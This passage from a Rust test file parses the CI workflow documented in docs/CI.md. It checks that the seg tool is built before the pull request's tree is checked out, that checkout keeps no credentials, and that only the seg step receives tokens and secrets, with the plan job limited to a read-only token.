/// request's `rust-toolchain.toml` would otherwise choose it); the checkout keeps no credential; the token and the
/// secrets are given to the `seg` step alone; the plan job's token is the read-only one and it runs only `diff`.
#[test]
fn the_manuals_workflow_builds_seg_before_the_tree_and_gives_the_token_to_seg_alone() {
    let page = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/CI.md");
    let page = std::fs::read_to_string(page).unwrap();
    let start = page.find("```yaml\nname: workspace\n").expect("the workflow in docs/CI.md") + "```yaml\n".len();
    let text = &page[start..start + page[start..].find("```").unwrap()];
    let workflow: Value = serde_yaml_ng::from_str(text).unwrap();
    let credentials = |env: &Value| {
        env.as_object().into_iter().flatten().any(|(name, _)| name == "SEG_TOKEN" || name.starts_with("SEG_SECRET_"))
    };
    assert!(!credentials(&workflow["env"]), "a credential for every job: {text}");
    for (job, seg, token) in
        [("plan", "seg diff ", "secrets.SEG_READ_TOKEN"), ("apply", "seg apply ", "secrets.SEG_TOKEN")]
    {
        let job_text = &workflow["jobs"][job];
        assert!(!credentials(&job_text["env"]), "{job}: a credential for every step");
        let steps = job_text["steps"].as_array().unwrap();
        let position = |found: &dyn Fn(&Value) -> bool| steps.iter().position(found).unwrap_or_else(|| panic!("{job}"));
        let run = |step: &Value| step["run"].as_str().unwrap_or_default().to_string();
        let install = position(&|s| run(s).starts_with("cargo install --locked --git "));
        let checkout = position(&|s| s["uses"].as_str().is_some_and(|u| u.starts_with("actions/checkout@")));
        assert!(install < checkout, "{job}: seg is built after the pull request's tree is on disk");
        assert_eq!(steps[install]["working-directory"], "${{ runner.temp }}", "{job}");
        assert_eq!(steps[install]["env"]["RUSTUP_TOOLCHAIN"], "stable", "{job}");
        assert_eq!(steps[checkout]["with"]["persist-credentials"], false, "{job}");
        for (index, step) in steps.iter().enumerate() {
            let holds = credentials(&step["env"]);
            let is_seg = run(step).starts_with(seg);
            assert_eq!(holds, is_seg, "{job}: step {index} ({}): only the seg step holds credentials", run(step));
        }
        let seg_step = &steps[position(&|s| run(s).starts_with(seg))];
        assert!(seg_step["env"]["SEG_TOKEN"].as_str().unwrap().contains(token), "{job}");
        if job == "plan" {
            let names: Vec<&String> = seg_step["env"].as_object().unwrap().keys().collect();
            assert!(names.iter().all(|name| !name.starts_with("SEG_SECRET_")), "plan: a secret's variable: {names:?}");
        }
    }
}
